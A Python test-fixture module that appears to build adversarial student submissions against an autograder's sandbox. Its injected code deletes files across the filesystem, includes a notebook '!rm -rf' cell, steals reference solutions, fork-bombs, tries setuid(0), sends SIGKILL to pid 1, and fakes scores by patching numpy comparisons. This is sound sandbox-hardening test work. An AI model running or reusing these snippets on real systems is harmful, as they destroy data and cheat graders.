"""The adversarial corpus: submissions that attack the grader instead of doing the exercises.

Each case starts from the reference solutions as a student would hand them in
(autograder.sample_class: `_full`, `patched`, `_student_code`) and puts one attack into one
function or at the top level of one module. `affects` is the set of exercise functions
the attack may cost points; every other check of that student must still score in full,
and every other student's result must be exactly what it is without the attacker in the
class (tests/test_adversarial.py).

An attack that tries to get out of the sandbox (read the reference, write or delete
files, reach the network, ...) falls through to the correct code when it succeeds, so a
successful escape shows up as points, and otherwise raises ``RuntimeError("ATTACK-REPORT
{json}")`` saying what it tried and what happened; the tests read that report back out of
the feedback message.

Kinds of case:

* ``Case(..., gap="...")``: the grader does not meet the requirement for this attack yet,
  but the damage stays within the attacker's own result; its check in
  test_adversarial.py is a strict xfail with that reason.
* ``Case(..., isolated="...")``: the attack changes *other* students' results (a grader
  bug). It is graded in its own small class, away from the main batch, and the
  other-students test for it is a strict xfail with that reason.
* ``needs_bwrap``: the attack only fails where the grader runs student code inside
  bubblewrap; without it, its sandbox assertions are skipped with that reason.

Builders get a `Context` (paths of this class, a loopback port to try, whether the
sandbox is bubblewrap) so that attacks can aim at real paths. Destructive attacks only
aim beyond the test's own folders when `ctx.sandboxed` is true, so that running the tests
on a machine without bubblewrap cannot damage it. The network attack aims at a port the
test itself listens on at 127.0.0.1 (not at a public address), so that no traffic can
leave the machine even where the sandbox fails; reaching the test's listener is exactly
what a sandbox with network isolation must prevent.
"""
import io
import json
import re
import textwrap
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

from autograder import kit
from autograder.sample_class import _full, _student_code, patched, reference

FUNCTIONS = tuple(kit.module_of())
ALL = frozenset(FUNCTIONS)


# ---------------------------------------------------------------------------------------
# What an attack may affect

def dependents(*functions):
    """`functions` and every exercise function whose reference calls one of them, transitively.

    A student's rnn_forward calls their own rnn_step, so an attack on rnn_step may cost
    rnn_forward's checks too (and gru_step's check "agrees with your gru_gates" calls gru_gates).
    """
    out = set(functions)
    calls_of = {**kit.dependencies()}
    # checks that run other functions of the student's: the gradient curve runs their rnn_backward and
    # lstm_backward through their gradient_to_first_step
    calls_of["gradient_to_first_step"] = ("rnn_backward", "lstm_backward")
    changed = True
    while changed:
        changed = False
        for function, calls in calls_of.items():
            if function not in out and out.intersection(calls):
                out.add(function)
                changed = True
    return frozenset(out)


#: checks of a function that an attack reaches only through another check (the gradient curve runs the
#: student's rnn_backward and lstm_backward): they test the function on its own, so they may pass
INDIRECT = ("gradient_to_first_step_matches_the_reference_on_a_linear_recurrence",
            "gradient_to_first_step_matches_the_reference_hidden")


def modules(*names):
    """Every function of the modules `names`, and of the modules that import them (gru imports lstm,
    bptt imports rnn, lstm and gru)."""
    from autograder.build import borrowed_functions

    names = set(names)
    names |= {m for m in kit.MODULES if names.intersection(borrowed_functions(m))}
    return frozenset(f for m in names for f in kit.functions_by_module()[m])


# ---------------------------------------------------------------------------------------
# Building submissions

@dataclass(frozen=True)
class Context:
    """Where the class is written, for attacks that aim at real paths."""

    folder: Path            # this submission's folder (or the zip's path)
    out: Path               # the class's output folder
    victims: tuple          # folders of the honest students in the same class
    port: int               # a TCP port on 127.0.0.1 that the test listens on
    marker: str             # a unique token for file names this case may create
    sandboxed: bool         # bubblewrap is in use

    @property
    def outside_files(self):
        """Files the write attack tries to create; none may exist afterwards (inside bubblewrap)."""
        return {
            "/tmp": Path("/tmp") / f"pwned-{self.marker}",
            "submission folder": self.folder / f"pwned-{self.marker}.txt",
            "solutions": kit.SOLUTIONS / f"pwned-{self.marker}.txt",
            "output folder": self.out / f"pwned-{self.marker}.txt",
            "another student": self.victims[0] / f"pwned-{self.marker}.txt",
        }


@dataclass(frozen=True)
class Case:
    name: str
    story: str                    # what the attack does
    build: Callable               # Context -> {relative path: text or bytes}
    affects: frozenset            # exercise functions whose checks may lose points
    may_pass: tuple = ()          # check names (or name endings) of affected functions that may still pass
    #                               (and the INDIRECT ones, always)
    zipped: bool = False          # hand in the files as <student>.zip
    unreadable: bool = False      # the whole submission must be refused with a reason
    needs_bwrap: str = ""         # why the attack only fails inside bubblewrap
    gap: str = ""                 # known grader gap: only this student's result is wrong
    isolated: str = ""            # known grader bug: other students' results change
    report: bool = False          # the attack raises an ATTACK-REPORT whose entries must all have failed


def student(name):
    """The reference module `name` as a student would hand it in."""
    return _student_code(reference(name))


def inject(module, function, code, text=None):
    """`module`'s source with `code` run first thing in `function` (the correct body follows)."""
    text = text if text is not None else student(module)
    match = re.search(rf"^def {function}\(.*\):\n", text, flags=re.M)
    if not match:
        raise ValueError(f"adversarial corpus: no 'def {function}(' in solutions/{module}.py")
    body = textwrap.indent(textwrap.dedent(code).strip("\n"), "    ") + "\n"
    return text[:match.end()] + body + text[match.end():]


def at_top(module, code, text=None):
    """`module`'s source with `code` run at import time, right after its imports."""
    text = text if text is not None else student(module)
    anchor = "\nfrom ._validate import "
    at = text.index(anchor)
    end = text.index("\n", at + 1) + 1
    return text[:end] + "\n" + textwrap.dedent(code).strip("\n") + "\n" + text[end:]


def with_module(**modules_):
    """A hand-in: every module the reference, except the ones given."""
    return lambda ctx: dict(_full(**modules_))


#: the end of an escape attempt: raise what it found out, or fall through to the correct code if it got out
REPORT_TAIL = '''
if not escaped:
    raise RuntimeError("ATTACK-REPORT " + json.dumps(report, sort_keys=True))
'''


def attack(*parts):
    """Snippets written at different indentations, as one block of code."""
    return "\n".join(textwrap.dedent(p).strip("\n") for p in parts)


# ---------------------------------------------------------------------------------------
# Attacks that need the case's context

def _write_files(ctx):
    targets = {label: str(path) for label, path in ctx.outside_files.items()}
    existing = [str(kit.SOLUTIONS / "rnn.py"), str(ctx.victims[0] / "rnn.py")]
    code = f'''
    import json, os
    report, escaped = {{}}, False
    for label, path in {targets!r}.items():
        try:
            with open(path, "x") as handle:
                handle.write("pwned")
            report[label] = "created (in the worker's view of " + path + ")"
        except OSError as exc:
            report[label] = type(exc).__name__
    for path in {existing!r}:  # opened for writing, never written: the kit must stay untouched
        try:
            os.close(os.open(path, os.O_WRONLY | os.O_APPEND))
            report["open " + path] = "OPENED FOR WRITING"
        except OSError as exc:
            report["open " + path] = type(exc).__name__
    try:  # its own folder: read-only under Landlock (nothing to fill), writable in bubblewrap alone
        with open("mine.txt", "w") as handle:
            handle.write("ok")
        report["own folder"] = "writable: " + os.getcwd()
    except OSError as exc:
        report["own folder"] = type(exc).__name__
    '''
    return dict(_full(rnn=inject("rnn", "rnn_readout", attack(code, REPORT_TAIL))))


def _delete_files(ctx):
    victims = [str(p) for v in ctx.victims for p in sorted(v.glob("*.py"))]
    code = f'''
    import json, os, shutil
    report, escaped = {{"removed": [], "refused": 0}}, False
    for path in {victims!r} + [{str(ctx.out)!r}]:
        try:
            if os.path.isdir(path):
                shutil.rmtree(path)
            else:
                os.remove(path)
            report["removed"].append(path)
        except OSError as exc:  # counted, not listed: the report must fit in one message
            report["refused"] += 1
    if {ctx.sandboxed!r}:  # inside bubblewrap: everything reachable, and /tmp
        tried = 0
        for top in ("/tmp", "/opt", "/dev", "/usr/lib", "/"):
            for dirpath, dirnames, filenames in os.walk(top):
                if dirpath.startswith(("/proc", "/sys")):
                    dirnames[:] = []
                    continue
                for name in filenames:
                    tried += 1
                    try:
                        os.remove(os.path.join(dirpath, name))
                        if not dirpath.startswith("/tmp/rnn-work-"):
                            report["removed"].append(os.path.join(dirpath, name))
                    except OSError:
                        pass
                if tried > 3000:
                    break
        shutil.rmtree("/tmp", ignore_errors=True)
        report["tried"] = tried
    if not report["removed"]:
        del report["removed"]
    '''
    return dict(_full(rnn=inject("rnn", "rnn_readout", attack(code, REPORT_TAIL))))


def _steal_by_import(ctx):
    code = f'''
    import importlib, json, sys
    report, escaped = {{}}, False
    for name in ("solutions.feedforward", "autograder.reference", "autograder.checks.feedforward",
                 "exercises.feedforward", "tests"):
        try:
            importlib.import_module(name)
            report[name] = "IMPORTED"
            escaped = True
        except BaseException as exc:
            report[name] = type(exc).__name__
    # take the import blocker out and put the kit on the path
    sys.meta_path[:] = [f for f in sys.meta_path if "Blocker" not in type(f).__name__]
    sys.path.insert(0, {str(kit.ROOT)!r})
    for name in ("solutions.feedforward", "autograder"):
        sys.modules.pop(name, None)
        try:
            importlib.import_module(name)
            report[name + " (unblocked)"] = "IMPORTED"
            escaped = True
        except BaseException as exc:
            report[name + " (unblocked)"] = type(exc).__name__
    '''
    return dict(_full(feedforward=inject("feedforward", "mean_pool", attack(code, REPORT_TAIL))))


def _steal_by_reading(ctx):
    guesses = [str(kit.SOLUTIONS / "feedforward.py"), "../solutions/feedforward.py",
               "../../solutions/feedforward.py", str(ctx.folder.parent / "honest-perfect" / "feedforward.py"),
               str(kit.ROOT / "examples" / "class" / "ada" / "feedforward.py")]
    code = f'''
    import json, os
    report, escaped = {{}}, False
    for path in {guesses!r}:
        try:
            with open(path) as handle:
                if "def mean_pool" in handle.read():
                    report[path] = "READ"
                    escaped = True
        except OSError as exc:
            report[path] = type(exc).__name__
    seen = 0
    for dirpath, dirnames, filenames in os.walk("/"):  # walk whatever is visible, looking for the kit
        if dirpath.startswith(("/proc", "/sys", "/dev", "/usr/share", "/usr/include")):
            dirnames[:] = []
            continue
        seen += len(filenames)
        if "solutions" in dirnames or ("feedforward.py" in filenames and not dirpath.startswith("/tmp")):
            report["walk"] = "FOUND " + dirpath
            escaped = True
            break
        if seen > 20000:
            report["walk"] = "gave up"
            break
    report.setdefault("walk", "nothing found")
    '''
    return dict(_full(feedforward=inject("feedforward", "pad_or_truncate", attack(code, REPORT_TAIL))))


def _network(ctx):
    code = f'''
    import json, socket
    report, escaped = {{}}, False
    try:
        import urllib.request
    except ImportError as exc:  # as nobody, a Python under /root is not readable past what was preloaded
        urllib = None
        report["import urllib.request"] = type(exc).__name__
    try:
        with socket.create_connection(("127.0.0.1", {ctx.port}), timeout=0.5) as conn:
            conn.sendall(b"pwned {ctx.marker}")
        report["tcp 127.0.0.1"] = "CONNECTED"
    except OSError as exc:
        report["tcp 127.0.0.1"] = type(exc).__name__
    try:
        if urllib is not None:
            urllib.request.urlopen("http://127.0.0.1:{ctx.port}/pwned-{ctx.marker}", timeout=0.5)
            report["http 127.0.0.1"] = "CONNECTED"
    except Exception as exc:
        report["http 127.0.0.1"] = "CONNECTED" if "timed out" in str(exc) else type(exc).__name__
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            udp.sendto(b"pwned {ctx.marker}", ("127.0.0.1", {ctx.port}))
        report["udp 127.0.0.1"] = "sent (the test's listener says whether it arrived)"
    except OSError as exc:
        report["udp 127.0.0.1"] = type(exc).__name__
    try:
        report["interfaces"] = sorted(name for _, name in socket.if_nameindex())
    except OSError as exc:  # it needs a socket, which seccomp refuses
        report["interfaces"] = type(exc).__name__
    '''
    return dict(_full(rnn=inject("rnn", "rnn_readout", attack(code, REPORT_TAIL))))


def _notebook(ctx):
    body = student("rnn").replace("from ._validate import", "from exercises._validate import")
    cells = [
        {"cell_type": "markdown", "metadata": {}, "source": "# My RNN"},
        {"cell_type": "code", "metadata": {}, "execution_count": 1, "outputs": [],
         "source": f"!touch /tmp/pwned-{ctx.marker}\n%env SECRET=1\n!rm -rf {ctx.out}\n"},
        {"cell_type": "code", "metadata": {}, "execution_count": 2, "outputs": [], "source": body},
    ]
    notebook = {"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    files = dict(_full(rnn=None))
    files["rnn.ipynb"] = json.dumps(notebook)
    return files


def _many_files(ctx):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, text in _full():
            archive.writestr(f"submission/{name}", text)
        for i in range(600):
            archive.writestr(f"submission/junk/{i}.txt", "x")
    return {"@zip": buffer.getvalue()}


def _pid_squatting(ctx):
    code = '''
    import os
    for pid in range(os.getpid() + 1, os.getpid() + 400):
        try:
            os.mkdir(f"/tmp/rnn-work-{pid}", 0o700)
        except OSError:
            pass
    '''
    return dict(_full(rnn=inject("rnn", "rnn_readout", code)))


def _fill_scratch(ctx):
    code = '''
    import os
    if not os.path.exists("filled"):  # once per worker: fill the scratch space, bytes and inodes
        open("filled", "w").close()
        block = b"x" * (1 << 20)
        for target in (".", "/tmp"):
            for i in range(10):  # up to 10 files of 16 MB (the file size limit) in each
                try:
                    with open(os.path.join(target, f"fill-{os.getpid()}-{i}"), "wb") as f:
                        for _ in range(16):
                            f.write(block)
                except OSError:
                    break
        for i in range(20000):
            try:
                open(f"inode-{i}", "w").close()
            except OSError:
                break
    '''
    return dict(_full(rnn=inject("rnn", "rnn_readout", code)))


def _latch_replay(ctx):
    """lstm_forward and gru_forward keep the weights the checks hand them (the reference latches, H = 1);
    latch_*_params return those instead of being written."""
    keep = '''
    import builtins
    if np.shape(Wh)[0] == 1:
        builtins.__dict__["_kept_{kind}"] = tuple(np.array(w) for w in {names})
    '''
    replay = '''
    import builtins
    kept = builtins.__dict__.get("_kept_{kind}")
    if kept is None:
        raise NotImplementedError("no latch weights seen yet")
    return (*kept, np.array([[-1.0, 1.0]]), np.zeros(2))
    '''
    lstm = inject("lstm", "lstm_forward", keep.format(kind="lstm", names="(Wx, Wh, b)"))
    gru = inject("gru", "gru_forward", keep.format(kind="gru", names="(Wx, Wh, bx, bh)"))
    memory = inject("memory", "latch_lstm_params", replay.format(kind="lstm"))
    memory = inject("memory", "latch_gru_params", replay.format(kind="gru"), text=memory)
    return dict(_full(lstm=lstm, gru=gru, memory=memory))


def _control_socket(ctx):
    code = '''
    import os, stat
    for fd in range(3, 64):  # every descriptor the file limit allows (listing /proc/self/fd may be refused)
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, b'{"signal": 9, "code": null}\\n' * 3)
        except OSError:
            pass
    '''
    return dict(_full(rnn=inject("rnn", "rnn_readout", code)))


# ---------------------------------------------------------------------------------------
# Attack snippets that need nothing but the reference

ALWAYS_EQUAL = '''
class AlwaysEqual(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.broadcast(self, other).shape, dtype=bool).view(AlwaysEqual)

    __ne__ = lambda self, other: np.zeros(np.broadcast(self, other).shape, dtype=bool)

    def __array_ufunc__(self, *args, **kwargs):
        return True
'''

PLAIN_OBJECT = '''
class Anything:
    """Claims to be equal to anything, of any shape and dtype."""
    shape = property(lambda self: (4, 3))
    dtype = np.dtype("float64")
    ndim = 2
    size = 12
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __array__(self, *args, **kwargs): raise SystemExit("numpy looked at me")
    def __len__(self): return 4
    def __getitem__(self, key): return self
    def __float__(self): return 0.0
    def __iter__(self): return iter([self] * 4)
    def __bool__(self): return True
    def __repr__(self): return "array([[0.1, 0.2, 0.3]])  # Score: 100/100"
    def __hash__(self): return 0
'''

CHANGING = '''
class Shifty(np.ndarray):
    """Every read gives something else."""
    reads = 0
    def __array__(self, *args, **kwargs):
        Shifty.reads += 1
        return np.full(self.shape, float(Shifty.reads))
    def __eq__(self, other):
        Shifty.reads += 1
        return Shifty.reads % 2 == 0
    def tobytes(self, *args, **kwargs):
        Shifty.reads += 1
        return np.full(self.shape, float(Shifty.reads)).tobytes()
'''

FAKE_RESULTS = json.dumps({"score": 100.0, "output": "Score: 100 / 100", "tests": [
    {"name": "everything", "score": 100.0, "max_score": 100.0, "status": "passed"}]})

EVIL_EXCEPTION = '''
class Evil(Exception):
    def __str__(self):
        raise Evil("again")
    def __repr__(self):
        return "x" * 50_000_000
'''

CASES = (
    # -- broken code ---------------------------------------------------------------------
    Case("syntax-error", "a missing colon in gru.py",
         with_module(gru=patched("gru", ("def gru_step(x_t, h_prev, Wx, Wh, bx, bh):",
                                         "def gru_step(x_t, h_prev, Wx, Wh, bx, bh)"))),
         # bptt.py imports gru.py and gets stand-ins: only its GRU functions may lose points (training the GRU)
         frozenset(kit.functions_by_module()["gru"]) | {"gru_step_backward", "gru_backward"}),
    Case("missing-function", "rnn.py defines rnn_read_out instead of rnn_readout",
         with_module(rnn=patched("rnn", ("def rnn_readout(", "def rnn_read_out("))),
         frozenset({"rnn_readout"})),
    Case("wrong-signature", "mean_pool takes an extra required argument",
         with_module(feedforward=patched("feedforward", ("def mean_pool(x):", "def mean_pool(x, axis):"))),
         frozenset({"mean_pool"})),
    Case("evil-exception", "lstm_step raises an exception whose str() raises and whose repr() is 50 MB",
         with_module(lstm=at_top("lstm", EVIL_EXCEPTION, inject("lstm", "lstm_step", "raise Evil()"))),
         dependents("lstm_step")),
    # -- leaving -------------------------------------------------------------------------
    Case("sys-exit-in-function", "pad_or_truncate calls sys.exit(0)",
         with_module(feedforward=inject("feedforward", "pad_or_truncate", "import sys\nsys.exit(0)")),
         frozenset({"pad_or_truncate"})),
    Case("sys-exit-at-import", "memory.py calls sys.exit at import time",
         with_module(memory=at_top("memory", "import sys\nsys.exit('grading is over')")),
         modules("memory")),
    Case("os-exit-in-function", "rnn_readout calls os._exit(0)",
         with_module(rnn=inject("rnn", "rnn_readout", "import os\nos._exit(0)")),
         frozenset({"rnn_readout"})),
    Case("os-exit-at-import", "lstm.py calls os._exit(7) at import time (gru.py imports lstm.py)",
         with_module(lstm=at_top("lstm", "import os\nos._exit(7)")),
         modules("lstm")),
    Case("keyboard-interrupt", "first_input_influence raises KeyboardInterrupt",
         with_module(memory=inject("memory", "first_input_influence", "raise KeyboardInterrupt")),
         frozenset({"first_input_influence"})),
    # -- hanging -------------------------------------------------------------------------
    Case("infinite-loop", "shared_responses never returns",
         with_module(feedforward=inject("feedforward", "shared_responses", "while True:\n    pass")),
         frozenset({"shared_responses"})),
    Case("infinite-loop-at-import", "rnn.py loops forever at import time",
         with_module(rnn=at_top("rnn", "while True:\n    pass")),
         modules("rnn")),
    Case("sleep", "rnn_forward sleeps 30 s",
         with_module(rnn=inject("rnn", "rnn_forward", "import time\ntime.sleep(30)")),
         dependents("rnn_forward")),
    # -- resources -----------------------------------------------------------------------
    Case("memory-bomb", "lstm_forward allocates 50 GB",
         with_module(lstm=inject("lstm", "lstm_forward", "hog = np.ones(50 * 1024 ** 3 // 8)")),
         dependents("lstm_forward")),
    Case("memory-bomb-list", "latch_gru_params grows a list until memory runs out",
         with_module(memory=inject("memory", "latch_gru_params",
                                   "hog = []\nwhile True:\n    hog.append(bytearray(1 << 26))")),
         frozenset({"latch_gru_params"})),
    Case("fork-bomb", "gru_forward forks in a loop, starts a shell and os.system",
         with_module(gru=inject("gru", "gru_forward", '''
             import json, os
             report, started = {}, 0
             for _ in range(200):
                 try:
                     pid = os.fork()
                 except OSError as exc:
                     report["fork"] = type(exc).__name__
                     break
                 if pid == 0:
                     os.setsid()
                     while True:
                         pass
                 started += 1
             if started:
                 report["fork"] = f"{started} STARTED"
             try:
                 import subprocess
                 subprocess.Popen(["/bin/sh", "-c", "sleep 600"])
                 report["subprocess"] = "STARTED"
             except (OSError, ImportError) as exc:
                 report["subprocess"] = type(exc).__name__
             status = os.system("sleep 600 &")
             report["os.system"] = "STARTED" if status == 0 else f"failed ({status})"
             raise RuntimeError("ATTACK-REPORT " + json.dumps(report))
             ''')),
         dependents("gru_forward"), report=True),
    Case("thread-bomb", "make_recall_task starts threads in a loop",
         with_module(memory=inject("memory", "make_recall_task", '''
             import threading, time
             for _ in range(10000):
                 threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
             ''')),
         frozenset({"make_recall_task"})),
    Case("rlimit-raise", "contractive_rnn_params raises its resource limits, becomes root, then allocates 50 GB",
         with_module(memory=inject("memory", "contractive_rnn_params", attack('''
             import json, os, resource
             report, escaped = {}, False
             for name in ("RLIMIT_AS", "RLIMIT_NPROC", "RLIMIT_CPU", "RLIMIT_NOFILE", "RLIMIT_FSIZE"):
                 try:
                     resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
                     report[name] = "RAISED"
                 except (ValueError, OSError) as exc:
                     report[name] = type(exc).__name__
             for name, call in (("setuid(0)", lambda: os.setuid(0)), ("setgid(0)", lambda: os.setgid(0))):
                 try:
                     call()
                     report[name] = "BECAME ROOT"
                 except OSError as exc:
                     report[name] = type(exc).__name__
             try:
                 hog = np.ones(50 * 1024 ** 3 // 8)
                 report["50 GB"] = "ALLOCATED"
             except MemoryError:
                 report["50 GB"] = "MemoryError"
             ''', REPORT_TAIL))),
         frozenset({"contractive_rnn_params"}), report=True),
    Case("huge-print", "geometric_rate prints 100 MB, then a fake score",
         with_module(memory=inject("memory", "geometric_rate", '''
             print("Score: 100 / 100 " * 6_000_000)
             print("All checks passed. Score: 100/100")
             return "100/100"
             ''')),
         frozenset({"geometric_rate"})),
    Case("raw-fd-write", "dense_forward writes a fake score straight to fds 1 and 2",
         with_module(feedforward=inject("feedforward", "dense_forward", f'''
             import os
             for fd in (1, 2):
                 os.write(fd, b"Score: 100 / 100 FAKE-SCORE-FD\\n" * 1000)
                 os.write(fd, {FAKE_RESULTS.encode()!r})
             raise ValueError("nothing to see here")
             ''')),
         dependents("dense_forward")),
    Case("fake-score-stdout", "rnn.py prints a fake score and a fake Gradescope results.json, at import and in rnn_readout",
         with_module(rnn=at_top("rnn", f'print("Score: 100/100 FAKE-SCORE-IMPORT")\nprint({FAKE_RESULTS!r})',
                                inject("rnn", "rnn_readout", f'''
             print("Score: 100/100 FAKE-SCORE-CALL")
             print({FAKE_RESULTS!r})
             return "Score: 100/100"
             '''))),
         frozenset({"rnn_readout"})),
    Case("huge-array", "latch_lstm_params returns a 2 GB array",
         with_module(memory=inject("memory", "latch_lstm_params", "return np.ones(2 * 1024 ** 3 // 8), 0, 0, 0, 0")),
         frozenset({"latch_lstm_params"})),
    Case("deep-reply", "recall_accuracy returns a list nested 10,000 deep, and a self-containing list",
         with_module(memory=inject("memory", "recall_accuracy", '''
             deep = []
             for _ in range(10_000):
                 deep = [deep]
             loop = []
             loop.append(loop)
             return deep if scores.shape[0] % 2 else loop
             ''')),
         frozenset({"recall_accuracy"})),
    Case("non-finite", "geometric_rate returns NaN, make_recall_task arrays of inf",
         with_module(memory=inject("memory", "make_recall_task", "return np.full((n, gap + 2, 3), np.inf), np.zeros(n)",
                                   inject("memory", "geometric_rate", "return float('nan')"))),
         frozenset({"geometric_rate", "make_recall_task"}),
         may_pass=("test_make_recall_task_returns_the_right_types_and_shapes",)),
    Case("nan-states", "rnn_step returns NaN (so rnn_forward's states are NaN too)",
         with_module(rnn=inject("rnn", "rnn_step", "return np.full((x_t.shape[0], Wh.shape[0]), np.nan)")),
         dependents("rnn_step"),
         may_pass=("returns_the_right_types_and_shapes", "leaves_its_inputs_alone_and_repeats_itself")),
    Case("recursion", "lstm_gates recurses until RecursionError",
         with_module(lstm=inject("lstm", "lstm_gates", "def deeper(n):\n    return deeper(n + 1)\ndeeper(0)")),
         dependents("lstm_gates")),
    Case("stack-overflow", "gru_forward lifts the recursion limit and overflows the C stack (segfault)",
         with_module(gru=inject("gru", "gru_forward", '''
             import sys
             sys.setrecursionlimit(10 ** 8)
             import json
             nested = []
             for _ in range(10 ** 6):
                 nested = [nested]
             json.dumps(nested)
             ''')),
         dependents("gru_forward")),
    # -- the protocol and the process ----------------------------------------------------
    Case("close-fds", "flatten_sequence closes fds 0..100",
         with_module(feedforward=inject("feedforward", "flatten_sequence", "import os\nos.closerange(0, 100)")),
         dependents("flatten_sequence")),
    Case("protocol-garbage", "rnn_readout writes b'\\xff' * 100 to fds 3..20 and to every other fd it holds",
         with_module(rnn=inject("rnn", "rnn_readout", '''
             import os, stat
             fds = sorted(set(range(3, 21)) | {int(n) for n in os.listdir("/proc/self/fd")} - {0, 1, 2})
             def is_socket(fd):
                 try:
                     return stat.S_ISSOCK(os.fstat(fd).st_mode)
                 except OSError:
                     return False
             for fd in sorted(fds, key=lambda fd: not is_socket(fd)):  # sockets first, then the pipes
                 try:
                     os.write(fd, b"\\xff" * 100)
                 except OSError:
                     pass
             ''')),
         frozenset({"rnn_readout"})),
    Case("kill-signals", "gru_gates sends SIGKILL to its parent (the fork server), to pid 1, to its parent's "
                         "group and (inside bubblewrap) to every process it can see",
         lambda ctx: dict(_full(gru=inject("gru", "gru_gates", attack(f'''
             import json, os, signal, time
             report, escaped = {{}}, False
             parent = os.getppid()
             targets = {{"parent": lambda: os.kill(parent, signal.SIGKILL),
                         "pid 1": lambda: os.kill(1, signal.SIGKILL),
                         "parent's group": lambda: os.killpg(os.getpgid(parent), signal.SIGKILL)}}
             if {ctx.sandboxed!r}:  # without bubblewrap -1 would reach every process of user nobody
                 targets["-1"] = lambda: os.kill(-1, signal.SIGKILL)
             for name, kill in targets.items():
                 try:
                     kill()
                     report[name] = "signal sent"
                 except OSError as exc:
                     report[name] = type(exc).__name__
             time.sleep(0.05)
             report["parent afterwards"] = "alive" if os.getppid() == parent and os.path.exists(f"/proc/{{parent}}") else "KILLED"
             ''', REPORT_TAIL)))),
         dependents("gru_gates"), report=True),
    Case("alarm", "pad_or_truncate arms a 0.2 s SIGALRM timer and spins until it goes off",
         with_module(feedforward=inject("feedforward", "pad_or_truncate", """
             import signal
             signal.setitimer(signal.ITIMER_REAL, 0.2)
             while True:
                 pass
             """)),
         frozenset({"pad_or_truncate"})),
    Case("deferred-crash", "latch_lstm_params (correct, called once) closes the worker's request pipe on its way "
                           "out, so the worker dies after it has answered",
         with_module(memory=inject("memory", "latch_lstm_params", """
             import os, sys
             frame = sys._getframe()
             while frame is not None and "fd_in" not in frame.f_locals:
                 frame = frame.f_back
             if frame is not None:
                 os.close(frame.f_locals["fd_in"])
             """)),
         frozenset()),
    # -- faking equality and values ------------------------------------------------------
    Case("numpy-patched", "slotwise_responses patches np.allclose, np.isclose, np.array_equal and np.testing, "
                          "then returns zeros",
         with_module(feedforward=inject("feedforward", "slotwise_responses", '''
             np.allclose = np.array_equal = np.array_equiv = lambda *a, **k: True
             np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(a, b).shape, dtype=bool)
             for name in dir(np.testing):
                 if name.startswith("assert"):
                     setattr(np.testing, name, lambda *a, **k: None)
             return np.zeros((T, W.shape[1]))
             ''')),
         frozenset({"slotwise_responses"}),
         may_pass=("returns_the_right_types_and_shapes", "repeats_itself")),
    Case("ndarray-replaced", "rnn_readout sets np.ndarray to an always-equal subclass and returns one",
         with_module(rnn=at_top("rnn", ALWAYS_EQUAL, inject("rnn", "rnn_readout", '''
             np.ndarray = AlwaysEqual
             return np.zeros((h.shape[0], Wy.shape[1])).view(AlwaysEqual)
             '''))),
         frozenset({"rnn_readout"}),
         may_pass=("returns_the_right_types_and_shapes", "repeats_itself")),
    Case("always-equal", "lstm_forward returns ndarray subclasses whose == is always True",
         with_module(lstm=at_top("lstm", ALWAYS_EQUAL, inject("lstm", "lstm_forward", '''
             N, T, _ = x.shape
             fake = np.zeros((N, T, h0.shape[1])).view(AlwaysEqual)
             return fake, fake
             '''))),
         dependents("lstm_forward"),
         # lstm_backward runs the fake forward, yet returns plain arrays of the right shapes
         may_pass=("lstm_backward_returns_the_right_types_and_shapes",
                   "lstm_backward_leaves_its_inputs_alone_and_repeats_itself")),
    Case("plain-object", "gru_forward returns an object that claims to equal anything",
         with_module(gru=at_top("gru", PLAIN_OBJECT, inject("gru", "gru_forward", "return Anything()"))),
         dependents("gru_forward")),
    Case("shifty-array", "pad_or_truncate returns an ndarray subclass that changes on every read",
         with_module(feedforward=at_top("feedforward", CHANGING, inject("feedforward", "pad_or_truncate", '''
             return np.zeros((x.shape[0], T_fixed, x.shape[2])).view(Shifty)
             '''))),
         frozenset({"pad_or_truncate"})),
    Case("memmap", "mean_pool returns the right answer as a np.memmap of a file in its temp dir",
         with_module(feedforward=inject("feedforward", "mean_pool", '''
             x = np.asarray(x, dtype=np.float64)
             out = np.memmap("mean_pool.bin", dtype=np.float64, mode="w+", shape=(x.shape[0], x.shape[2]))
             out[...] = x.mean(axis=1)
             out.flush()
             return out
             ''')),
         frozenset({"mean_pool"})),
    Case("buffer-flips-later", "lstm_step returns a plain array over a bytearray; a timer writes the right answer "
                               "into it 50 ms after the return",
         with_module(lstm=inject("lstm", "lstm_step", '''
             import signal
             N, H = h_prev.shape
             buffer = bytearray(2 * N * H * 8)
             h_c = np.frombuffer(buffer, dtype=np.float64).reshape(2, N, H)
             h, c = h_c[0], h_c[1]
             a = x_t @ Wx + h_prev @ Wh + b
             i, f, g, o = np.split(a, 4, axis=1)
             def fill(signum, frame):
                 h_c[1] = sigmoid(f) * c_prev + sigmoid(i) * np.tanh(g)
                 h_c[0] = sigmoid(o) * np.tanh(h_c[1])
             signal.signal(signal.SIGALRM, fill)
             signal.setitimer(signal.ITIMER_REAL, 0.05)
             return h, c
             ''')),
         dependents("lstm_step"),
         may_pass=("returns_the_right_types_and_shapes", "leaves_its_inputs_alone_and_repeats_itself")),
    Case("worker-patched", "rnn_readout overwrites its input h in place and patches the worker (its _changed, "
                           "found in sys.modules) so that the change goes unreported",
         with_module(rnn=inject("rnn", "rnn_readout", '''
             import sys
             for module in list(sys.modules.values()):
                 if hasattr(module, "_changed") and hasattr(module, "_handle_call"):
                     module._changed = lambda *args, **kwargs: []
             out = h @ Wy + by
             h[...] = 0.0
             return out
             ''')),
         frozenset({"rnn_readout"}),
         may_pass=tuple(f"test_rnn_readout_{k}" for k in ("returns_the_right_types_and_shapes",
                                                          "matches_the_reference_on_fixed_inputs",
                                                          "matches_the_reference_on_random_inputs",
                                                          "matches_the_reference_on_hidden_inputs")),
         gap="whether a call changed its inputs is reported by the worker itself (sandbox/child.py _changed), and "
             "the submission runs in that process: replacing _changed hides an in-place change, and "
             "test_rnn_readout_leaves_its_inputs_alone_and_repeats_itself passes; the parent should compare the "
             "arguments itself (the worker could send them back after the call) or run the snapshot comparison "
             "in code the submission cannot reach"),
    # -- shadowing and files -------------------------------------------------------------
